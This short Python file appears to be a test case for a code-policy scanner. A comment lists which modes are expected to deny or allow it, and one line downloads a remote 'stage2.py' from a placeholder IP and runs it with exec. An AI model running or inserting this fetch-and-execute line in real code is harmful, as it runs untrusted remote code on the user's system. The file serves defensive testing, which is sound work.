# expect: strict=deny standard=deny audit=allow
from urllib.request import urlopen

exec(urlopen("http://198.51.100.23/stage2.py").read())
